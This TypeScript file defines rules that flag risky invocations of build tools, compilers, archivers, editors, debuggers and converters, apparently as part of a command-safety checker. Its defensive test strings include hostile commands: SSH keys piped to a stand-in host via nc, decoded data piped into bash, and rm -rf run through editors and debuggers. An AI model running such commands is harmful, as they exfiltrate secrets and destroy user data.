import type { Call } from '../call.js';
import { contains } from '../paths.js';
import type { Program, Rule } from '../program.js';
import { runContent, runFile } from '../script-file.js';

const rule = (id: string, reach: Rule['reach'], reason: string, more: Partial<Rule> = {}): Rule => ({ id, reach, reason, ...more });
const runs = (more: Partial<Rule>): Rule => rule('option.runs', 'anything', 'One of its options loads or runs other code.', more);

function outside(call: Call, file: string): boolean {
  const path = call.path(file);
  return !contains(call.at.context.project ?? call.at.context.cwd, path) && !contains(call.scope.cwd ?? '/nowhere', path);
}

function make(call: Call): void {
  for (const code of call.values('--eval -E')) {
    call.report('option.runs', 'anything', 'It runs a recipe from the command line.', { durable: false });
    for (const match of code.raw.matchAll(/\$\(shell ([^)]*)\)|:\s*;?\s*(.+)$/g)) call.shell(match[1] ?? match[2] ?? '');
  }
  for (const file of call.values('-f --file --makefile')) {
    if (file.raw === '-') {
      if (call.stdin) call.report('exec.pipe-to-shell', 'anything', 'It runs recipes that arrive as data.', { durable: false });
    } else if (outside(call, file.raw))
      call.report('exec.script-outside', 'anything', `It runs recipes from outside of the project: ${file.text}.`);
  }
  for (const directory of call.values('-C --directory'))
    if (outside(call, directory.raw))
      call.report('exec.script-outside', 'anything', `It runs recipes from outside of the project: ${directory.text}.`);
  for (const { raw } of call.operands)
    if (/^(?:SHELL|\.SHELLFLAGS|MAKEFILES|BASH_ENV|LD_PRELOAD)[:+?]?=/.test(raw))
      call.report('option.runs', 'anything', 'It has the recipes run by another program.', { durable: false });
}

function compiler(call: Call): void {
  const words = call.args.map((arg) => arg.raw);
  if (
    words.some(
      (word) => /^(?:-wrapper|-specs|--specs|-fplugin|-fpass-plugin|-B|-load|-Xclang|@)/.test(word) && !/^-B(?:uild|$)/.test(word),
    ) &&
    !words.every((word) => !/^(?:-wrapper|-specs=|--specs=|-fplugin=|-fpass-plugin=|-load|@|-B.+)/.test(word))
  )
    call.report('option.runs', 'anything', 'One of its options loads or runs other code.', { durable: false });
  for (const file of call.values('-o')) call.writes(file);
}

const tarOptions = {
  values:
    '-f -C -T -X -b -F -g -I -K -L -N -V -H --file --directory --files-from --exclude-from --use-compress-program --info-script --new-volume-script --checkpoint-action --to-command --rsh-command --rmt-command --exclude --transform --strip-components --owner --group --mode --mtime --listed-incremental --index-file --volno-file --format --add-file --newer --occurrence --starting-file --suffix --blocking-factor',
} as const;

const compressors = /^(?:gzip|bzip2|xz|zstd|lz4|lzma|pigz|pbzip2|pixz|lzop|compress|brotli|zstdmt)(?:\s+-[\w=]+)*$/;

function tar(call: Call): void {
  // Old style: the first word is a bundle of letters without a dash.
  const first = call.args[0]?.raw ?? '';
  const bundled = /^[A-Za-z]{1,8}$/.test(first) ? call.sub('tar', 0, undefined) : undefined;
  const letters = bundled
    ? first
    : call.options
        .filter((option) => /^-\w$/.test(option.name))
        .map((option) => option.name[1])
        .join('');
  let words = call.operands;
  if (bundled) words = words.slice(1);
  for (const action of call.values('--checkpoint-action')) {
    const code = /^(?:exec|wait|bell|sleep)?=?(.*)$/s.exec(action.raw.replace(/^exec=/, 'exec='));
    if (action.raw.startsWith('exec=')) {
      call.report('option.runs', 'anything', 'One of its options runs a command.', { durable: false });
      call.shell(code?.[1] ?? '');
    }
  }
  for (const code of call.values('--to-command --rsh-command --rmt-command -F --info-script --new-volume-script')) {
    call.report('option.runs', 'anything', 'One of its options runs a command.', { durable: false });
    call.shell(code.raw);
  }
  for (const code of call.values('-I --use-compress-program'))
    if (!compressors.test(code.text)) {
      call.report('option.runs', 'anything', 'It packs through another program.', { durable: false });
      call.shell(code.raw);
    }
  const archive = call.value('-f --file')?.raw ?? (bundled && letters.includes('f') ? words[0]?.raw : undefined);
  if (archive && /^[\w.@-]+:/.test(archive) && !call.has('--force-local'))
    call.report('option.runs', 'network', 'It packs to or from another machine.');
  const creates = /[cru]/.test(letters) || call.has('--create --append --update');
  const extracts = /x/.test(letters) || call.has('--extract --get');
  if (creates && archive && archive !== '-') call.writes(archive);
  if (call.has('--remove-files --recursive-unlink') || (extracts && call.has('-U --unlink-first')))
    call.report('fs.delete', 'filesystem', 'It deletes files once they are packed, or before they are unpacked.');
  if (call.has('--index-file --volno-file -g --listed-incremental'))
    for (const file of call.values('--index-file --volno-file -g --listed-incremental')) call.writes(file);
  if (extracts) {
    const directory = call.value('-C --directory');
    if (directory) {
      call.writes(directory);
      call.writes(`${directory.raw}/x`);
    }
    if (letters.includes('P') || call.has('--absolute-names'))
      call.report('fs.extract-anywhere', 'filesystem', 'It unpacks files to wherever the archive says.');
  }
  if (creates)
    for (const word of words)
      if (word.raw !== archive) {
        call.reads(word);
        if (call.path(word) === call.at.context.home) call.reads(`${word.raw}/.ssh`);
      }
}

export const build: readonly Program[] = [
  {
    names: ['make', 'gmake', 'bmake', 'remake', 'mingw32-make'],
    options: {
      values: '-f -C -I -j -l -o -W -E --file --makefile --directory --include-dir --eval --jobs --load-average --old-file --what-if',
    },
    check: make,
    match: ["make --eval='x:;rm -rf ~/y' x", 'make -f /tmp/x', 'make -f - <<< "a:; id"', 'make SHELL=/tmp/x', 'make -C /srv/app'],
    not_match: ['make', 'make -j4 test', 'make clean', 'make -C packages/a build', 'make install DESTDIR=build', 'make deploy'],
  },
  {
    names: ['cmake', 'ctest', 'cpack'],
    options: {
      values: '-S -B -G -D -C -P -U -A -T -R -j --build --target --config --install --prefix --preset --toolchain -E',
      style: 'words',
    },
    rules: [
      runs({ option: '-P -C' }),
      runs({
        test: (call) =>
          call.args.some((arg) => /^-D\s*\w*(?:LAUNCHER|RULE_LAUNCH\w*)\b.*=/.test(arg.raw) && !/=(?:ccache|sccache|)$/.test(arg.raw)),
      }),
    ],
    check: (call) => {
      const at = call.args.findIndex((arg) => arg.raw === '-E');
      if (at < 0) return;
      const verb = call.args[at + 1]?.text;
      if (/^(?:rm|remove|remove_directory)$/.test(verb ?? ''))
        for (const arg of call.args.slice(at + 2)) if (!arg.raw.startsWith('-')) call.deletes(arg, true);
      if (/^(?:env|time|chdir)$/.test(verb ?? '')) call.runFrom(verb === 'chdir' ? at + 3 : at + 2);
      const target = call.args[call.args.length - 1];
      if (/^(?:copy\w*|rename|touch|create_symlink)$/.test(verb ?? '') && target) call.writes(target);
    },
    match: [
      'cmake -P x.cmake',
      'cmake -E rm -rf src',
      'cmake -DCMAKE_C_COMPILER_LAUNCHER=./x .',
      'cmake -E env rm -rf ~/x',
      'cmake -C cache.cmake .',
    ],
    not_match: [
      'cmake -S . -B build',
      'cmake --build build -j',
      'ctest --output-on-failure',
      'cmake -DCMAKE_BUILD_TYPE=Release ..',
      'cmake -E make_directory build',
    ],
  },
  {
    names: [
      'ninja',
      'samu',
      'meson',
      'scons',
      'waf',
      'premake5',
      'xmake',
      'tup',
      'redo',
      'just',
      'task',
      'mage',
      'invoke',
      'inv',
      'doit',
      'nox',
      'tox',
      'earthly',
      'dagger',
      'pants',
      'buck',
      'buck2',
      'please',
      'gn',
      'autoreconf',
      'rake-make',
      'jake',
      'gulp',
      'grunt',
      'wireit',
      'moon',
    ],
    options: { values: '-f -C -j -k -l -t -s -e --file --directory --shell --shell-arg --command --justfile' },
    rules: [runs({ option: '-c --command --shell --shell-command', test: (call) => call.name === 'just' })],
    check: (call) => {
      for (const file of call.values('-f --file -C --directory --justfile'))
        if (outside(call, file.raw))
          call.report('exec.script-outside', 'anything', `It runs recipes from outside of the project: ${file.text}.`);
      if (call.name === 'just') for (const code of call.values('--command')) call.shell(code.raw);
    },
    match: ['ninja -f /tmp/x.ninja', 'just --shell /tmp/x build', 'task -f /tmp/Taskfile.yml'],
    not_match: ['ninja -C build', 'just build', 'task test', 'tox -e py311', 'meson setup build', 'nox -s tests'],
  },
  {
    names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'gfortran', 'gdc', 'nvcc', 'icc', 'ld', 'lld', 'mold', 'as', 'cpp'],
    options: { values: '-o -I -L -l -D -x -T', style: 'words' },
    check: compiler,
    match: [
      'gcc -wrapper ./x,-a a.c',
      'clang -Xclang -load -Xclang ./x.so a.c',
      'gcc -specs=./x a.c',
      'gcc -B./x a.c',
      'g++ -fplugin=./x.so a.cc',
      'gcc @opts',
      'cc -o ~/.bashrc a.c',
    ],
    not_match: ['gcc -O2 -o app a.c', 'clang -Wall -c a.c', 'g++ -std=c++20 main.cpp -o build/main', 'gcc-13 -fPIC a.c'],
  },
  {
    names: ['rustc', 'rustdoc'],
    options: { values: '-C -o -L -l --crate-type --edition --emit --out-dir --extern --target -Z' },
    rules: [
      runs({ test: (call) => call.values('-C').some((value) => /^(?:linker|link-arg|ar)\b/.test(value.text)) }),
      runs({ option: '-Z --test-runtool --runtool' }),
    ],
    check: (call) => void call.values('-o --out-dir').forEach((file) => call.writes(file)),
    match: ['rustc -C linker=./x a.rs'],
    not_match: ['rustc -O a.rs', 'rustc --version', 'rustc -C opt-level=3 a.rs'],
  },
  {
    names: ['bazel', 'bazelisk', 'blaze'],
    options: { values: '--output_base --output_user_root' },
    rules: [
      runs({
        option: '--workspace_status_command --run_under --override_repository --host_jvm_args --bazelrc --python_path --shell_executable',
      }),
      rule('build.clean', 'filesystem', 'It deletes everything that was built and fetched.', {
        when: 'clean',
        option: '--expunge --expunge_async',
      }),
    ],
    match: ['bazel build --workspace_status_command=./x //...', 'bazel run --run_under=./x //a', 'bazel clean --expunge'],
    not_match: ['bazel test //...', 'bazel build //app', 'bazel query //...', 'bazel clean'],
  },
  {
    names: ['mvn', 'mvnw', 'mvnd', 'gradle', 'gradlew', 'ant'],
    inProject: true,
    options: {
      values:
        '-s -gs -f -pl -P -T -I -b -c -g -p --settings --file --init-script --build-file --settings-file --gradle-user-home --project-dir -x -D',
    },
    rules: [
      runs({ when: '... exec:exec|exec:java|antrun:run|groovy:execute|*exec-maven-plugin*|*gmaven*|*antrun*' }),
      runs({
        option: '-s -gs --settings --global-settings -I --init-script -g --gradle-user-home',
        test: (call) =>
          call
            .values('-s -gs --settings --global-settings -I --init-script -g --gradle-user-home')
            .some((file) => outside(call, file.raw) || /\.gradle$/.test(file.text)) || call.has('-I --init-script'),
      }),
      runs({
        test: (call) =>
          call.args.some((arg) =>
            /^-D(?:exec\.|maven\.ext\.class\.path|maven\.repo\.remote|org\.gradle\.jvmargs|maven\.multiModule)/.test(arg.raw),
          ) || call.values('-f --file -b --build-file -p --project-dir').some((file) => outside(call, file.raw)),
      }),
      rule('registry.publish', 'remote-service', 'It publishes what was built.', {
        when: '... deploy|release:perform|release:prepare|site:deploy|*:deploy|publish|publishToMavenCentral|publishPlugins|uploadArchives|closeAndReleaseRepository|publishAllPublicationsTo*|*:publish|publishAll*|jreleaserFullRelease|nexus-staging:*|deploy:deploy-file',
        unless: '--dry-run -m',
        test: (call) => call.name !== 'ant',
      }),
    ],
    match: [
      'mvn exec:exec -Dexec.executable=./x',
      'mvn deploy',
      'gradle publish',
      './gradlew -I /tmp/x.gradle build',
      'mvn -s /tmp/s.xml test',
      'mvn release:perform',
      'ant -f /tmp/b.xml',
    ],
    not_match: [
      'mvn -q test',
      './gradlew build',
      'gradle test --info',
      'mvn package -DskipTests',
      './mvnw verify',
      'ant test',
      'gradle publishToMavenLocal',
    ],
  },
  {
    names: ['pytest', 'py.test', 'nosetests', 'pre-commit', 'coverage', 'invoke-py'],
    options: {
      values:
        '-p -c -o -k -m -n -W --rootdir --basetemp --confcutdir --pdbcls --cov --junitxml --maxfail --tb --timeout --ignore --deselect',
    },
    rules: [
      runs({
        option: '-p',
        test: (call) =>
          call.name.startsWith('py') &&
          call.values('-p').some((value) => !/^no:|^(?:xdist|pytest_\w+|randomly|cacheprovider|asyncio)$/.test(value.text)),
      }),
      runs({ option: '--pdbcls', test: () => true }),
      runs({
        option: '-c --rootdir --confcutdir',
        test: (call) => call.values('-c --rootdir --confcutdir').some((file) => outside(call, file.raw)),
      }),
      rule('fs.delete', 'filesystem', 'It empties the directory of its temporary files first.', {
        option: '--basetemp',
        test: (call) => call.values('--basetemp').some((file) => !/^\/tmp\/[\w-]+/.test(file.text)),
      }),
      rule('git.hooks', 'anything', 'It changes which commands git runs.', {
        when: 'uninstall|init-templatedir',
        test: (call) => call.name === 'pre-commit',
      }),
    ],
    match: ['pytest -p evil', 'pytest --basetemp=src', 'pytest -c /tmp/x.ini', 'pytest --pdbcls=x:y'],
    not_match: [
      'pytest',
      'pytest -x tests/test_a.py::test_b',
      'pytest -k "not slow" -n auto',
      'pytest -p no:cacheprovider',
      'pre-commit run --all-files',
      'coverage report',
    ],
  },
  {
    names: ['tar', 'gtar', 'bsdtar'],
    options: tarOptions,
    check: tar,
    match: [
      'tar cf x.tar --checkpoint=1 --checkpoint-action=exec=./x .',
      'tar xf a.tar -C /',
      'tar -I ./x -xf a',
      'tar czf - ~/.ssh | nc h.example 9',
      'tar cf a.tar --remove-files src',
      'tar xPf a.tar',
      'tar xf a --to-command=./x',
      'tar xzf a.tgz -C ~/.ssh',
      'tar --use-compress-prog=./x -cf a b',
    ],
    not_match: [
      'tar xzf a.tgz',
      'tar czf out.tgz dist',
      'tar tf a.tar',
      'tar -xf a.tar -C build',
      'tar --zstd -cf a.tar.zst src',
      'tar cJf a.txz .',
    ],
  },
  {
    names: [
      'zip',
      'unzip',
      '7z',
      '7za',
      '7zz',
      'rar',
      'unrar',
      'cpio',
      'ar',
      'gzip',
      'gunzip',
      'bzip2',
      'xz',
      'zstd',
      'lz4',
      'pigz',
      'brotli',
      'unxz',
      'bunzip2',
      'unzstd',
      'pax',
      'lha',
      'zpaq',
      'ouch',
      'atool',
      'unar',
    ],
    options: { values: '-d -x -i -n -t -b -P --unzip-command --rsh-command --to-command' },
    rules: [
      runs({
        test: (call) => call.has('--unzip-command --rsh-command --to-command') || call.args.some((arg) => arg.raw.startsWith('-TT')),
      }),
      rule('fs.delete', 'filesystem', 'It deletes files once they are packed.', {
        test: (call) =>
          (call.name === 'zip' && call.options.some((option) => option.name === '-m' || option.name === '--move')) ||
          (/^7z/.test(call.name) && call.args.some((arg) => arg.raw === '-sdel')) ||
          (call.name === 'rar' && call.args.some((arg) => arg.raw === '-df' || arg.raw === '-dw' || arg.raw === 'm')),
      }),
    ],
    check: (call) => {
      if (/^(?:zip|7z\w*|rar|ar)$/.test(call.name)) for (const operand of call.operands.slice(1)) call.reads(operand);
      if (/^(?:gzip|bzip2|xz|zstd|lz4|pigz|brotli)$/.test(call.name)) for (const operand of call.operands) call.reads(operand);
      if (call.name === 'zip' && call.operands[0]) call.writes(call.operands[0]);
      if (call.name === 'unzip') {
        const directory = call.value('-d');
        if (directory) call.writes(`${directory.raw}/x`);
        if (call.has('-:')) call.report('fs.extract-anywhere', 'filesystem', 'It unpacks files to wherever the archive says.');
      }
    },
    output: (call) =>
      call.has('-d -dc -c --decompress --stdout') || /^(?:gun|un|bun)/.test(call.name)
        ? { text: undefined, sources: new Set(['decoded', 'unknown']) }
        : undefined,
    match: [
      "zip a.zip f -T -TT 'sh -c id'",
      'zip -m a.zip src',
      'zip a.zip ~/.ssh/id_rsa',
      'unzip -o a.zip -d /etc',
      '7z a -sdel a.7z src',
      'gzip -dc x.gz | bash',
      'cpio -o --rsh-command=./x',
    ],
    not_match: ['zip -r a.zip dist', 'unzip a.zip', 'unzip -l a.zip', 'gunzip a.gz', 'gzip -k f', '7z x a.7z', 'xz -d a.xz', 'zstd -19 f'],
  },
  {
    names: [
      'vim',
      'vi',
      'nvim',
      'ex',
      'view',
      'gvim',
      'rvim',
      'vimdiff',
      'ed',
      'red',
      'emacs-nox',
      'nano',
      'pico',
      'micro',
      'kak',
      'hx',
      'helix',
      'joe',
      'jed',
      'ne',
    ],
    options: { values: '-c -S -u -U -i -T -w -W --cmd -p --remote-expr --remote-send', style: 'words' },
    fleeting: true,
    check: (call) => {
      for (const code of [
        ...call.values('-c --cmd'),
        ...call.args.filter((arg) => /^\+./.test(arg.raw) && !/^\+\d+$/.test(arg.raw)).map((arg) => call.literal(arg.raw.slice(1))),
      ]) {
        const shell =
          /(?:^|[|:])\s*(?:%|\d*,?\d*)?!\s*(.+)$|(?:^|[:|])\s*(?:r|read|w|write)\s+!\s*(.+)$|\bsystem\(\s*["'](.+?)["']\s*\)/.exec(
            code.raw,
          );
        if (shell) {
          call.report('option.runs', 'anything', 'It has the editor run a command.', { durable: false });
          call.shell((shell[1] ?? shell[2] ?? shell[3] ?? '').replace(/^['"]|['"]$/g, ''), { label: call.name });
        } else if (
          /\b(?:lua|py3?|python3?|perl|ruby|source|so|terminal|term|call\s+(?:system|delete|writefile)|luafile|pyfile|execute)\b/.test(
            code.raw,
          )
        )
          call.report('option.runs', 'anything', 'It has the editor run code.', { durable: false });
        const write = /(?:^|\|)\s*:?\s*(?:w|write|wq|saveas|x)!?\s+([^|!\s]+)/.exec(code.raw);
        if (write) call.writes(write[1] as string);
      }
      for (const file of call.values('-S -u'))
        if (!/^(?:NONE|NORC|DEFAULTS)$/.test(file.text)) runFile(call, file, call.name, { language: 'vim' });
      if (/^(?:ed|ex|red)$/.test(call.name) || call.options.some((option) => /^-(?:e|es|E|s|Es)$/.test(option.name))) {
        if (call.stdin?.text !== undefined) {
          for (const match of call.stdin.text.matchAll(/^\s*(?:r\s*)?!(.+)$/gm)) {
            call.report('option.runs', 'anything', 'It has the editor run a command.', { durable: false });
            call.shell(match[1] as string, { label: call.name });
          }
          for (const match of call.stdin.text.matchAll(/^\s*\d*,?\$?w!?\s+(\S+)/gm)) call.writes(match[1] as string);
          for (const operand of call.operands) call.writes(operand);
        } else if (call.stdin) runContent(call, call.stdin, { language: 'vim' });
      }
    },
    match: [
      "vim -c ':!rm -rf ~/x' -c q",
      'nvim --cmd \'lua os.execute("id")\'',
      "vim '+!id' +q",
      "ed f <<'END'\n!rm -rf ~/x\nEND",
      'vim -S /tmp/x.vim',
      "ex -s -c 'w ~/.bashrc' -c q f",
      "vim -es -c 'r !id' -c q",
    ],
    not_match: ['vim README.md', 'vim +42 a.ts', "vim -c 'set nu' a.ts", 'nano a.txt', 'nvim .', 'vimdiff a b'],
  },
  {
    names: ['gdb', 'lldb', 'cgdb', 'dlv', 'radare2', 'r2', 'bpftrace', 'systemtap', 'stap', 'dtrace', 'frida', 'gcore'],
    options: { values: '-x -ex -o -O -p -c -s -S -b -k -iex -eval-command --eval-command --command -e -i -q -d', style: 'words' },
    fleeting: true,
    check: (call) => {
      for (const code of call.values('-ex -iex -o -O -eval-command --eval-command -c -e'))
        if (
          /^\s*(?:!|shell|python|pi|py|platform\s+shell|script|source|pipe|call\s+system|expr.*system|system)/.test(code.raw) ||
          /system\s*\(/.test(code.raw)
        ) {
          call.report('option.runs', 'anything', 'It has the debugger run a command.', { durable: false });
          call.shell(code.raw.replace(/^\s*(?:!|shell|platform\s+shell|pipe)\s*/, ''), { label: call.name });
        }
      for (const file of call.values('-x --command -s'))
        if (/^(?:gdb|lldb)$/.test(call.name)) runFile(call, file, call.name, { language: call.name });
      if (call.has('-p --pid') && /^(?:gdb|lldb|frida|gcore|dlv)$/.test(call.name))
        call.report('proc.attach', 'processes', 'It takes control of a running process.');
      const at = call.args.findIndex((arg) => arg.raw === '--args' || arg.raw === '--');
      if (at >= 0) call.runFrom(at + 1);
      if (/^(?:bpftrace|stap|systemtap|dtrace)$/.test(call.name) && call.args.length > 0 && !call.has('-l'))
        call.report('sys.kernel', 'host', 'It runs code in the kernel.', { durable: false });
    },
    match: ["gdb -ex '!rm -rf ~/x'", "gdb -batch -ex 'shell id'", 'gdb --args rm -rf ~/x', 'gdb -p 1', "lldb -o 'platform shell id'"],
    not_match: ['gdb ./app', 'gdb -batch -ex bt ./app core', 'gdb --args ./build/app x'],
  },
  {
    names: [
      'pandoc',
      'magick',
      'convert',
      'identify',
      'mogrify',
      'gs',
      'ghostscript',
      'ffmpeg',
      'pdflatex',
      'xelatex',
      'lualatex',
      'latex',
      'tex',
      'latexmk',
      'm4',
      'dc',
      'wkhtmltopdf',
      'inkscape',
      'exiftool',
      'yt-dlp',
      'youtube-dl',
      'scrot',
      'mpv',
      'vlc',
    ],
    options: {
      values:
        '-o -F -L -i -f -t -D -U -sOutputFile --output --filter --lua-filter --pdf-engine --extract-media --exec --postprocessor-args -shell-escape',
      style: 'words',
    },
    rules: [
      runs({
        option: '-F -L --filter --lua-filter --pdf-engine',
        test: (call) =>
          call.name === 'pandoc' &&
          !/^(?:pandoc-citeproc|pandoc-crossref|pdflatex|xelatex|lualatex|tectonic|weasyprint|wkhtmltopdf|typst)$/.test(
            call.value('-F -L --filter --lua-filter --pdf-engine')?.text ?? '',
          ),
      }),
      runs({ option: '-shell-escape --shell-escape -enable-write18 --enable-write18 -dNOSAFER', test: () => true }),
      runs({ option: '--exec --exec-before-download', test: (call) => /^yt-dlp|youtube-dl$/.test(call.name) }),
      runs({
        test: (call) =>
          /^(?:magick|convert|identify|mogrify)$/.test(call.name) &&
          call.operands.some((operand) => /^(?:msl|ephemeral|mvg|label:@|caption:@|text:|@|https?):?|^\|/.test(operand.text)),
      }),
      runs({ test: (call) => call.name === 'm4' && (call.stdin?.text ?? '').includes('syscmd') }),
      runs({ test: (call) => call.name === 'dc' && /!/.test(call.args.map((arg) => arg.text).join(' ') + (call.stdin?.text ?? '')) }),
    ],
    check: (call) => {
      for (const file of call.values('-o --output -sOutputFile --extract-media'))
        if (/^\|/.test(file.raw) || /^%pipe%/.test(file.raw)) call.shell(file.raw.replace(/^(?:\||%pipe%)/, ''));
        else call.writes(file);
      if (call.name === 'ffmpeg') {
        const target = call.operands[call.operands.length - 1];
        if (target) call.writes(target);
      }
    },
    match: [
      'pandoc -F ./x a.md',
      'pdflatex -shell-escape a.tex',
      'gs -dNOSAFER a.ps',
      'magick msl:x y',
      'pandoc a.md -o ~/.bashrc',
      "yt-dlp --exec 'rm -rf ~/x' http://h.example",
      "echo 'syscmd(id)' | m4",
      'ffmpeg -i a.mp4 -y ~/.profile',
    ],
    not_match: [
      'pandoc a.md -o a.html',
      'pdflatex a.tex',
      'convert a.png b.jpg',
      'ffmpeg -i a.mp4 b.gif',
      'identify a.png',
      'latexmk -pdf a.tex',
    ],
  },
];
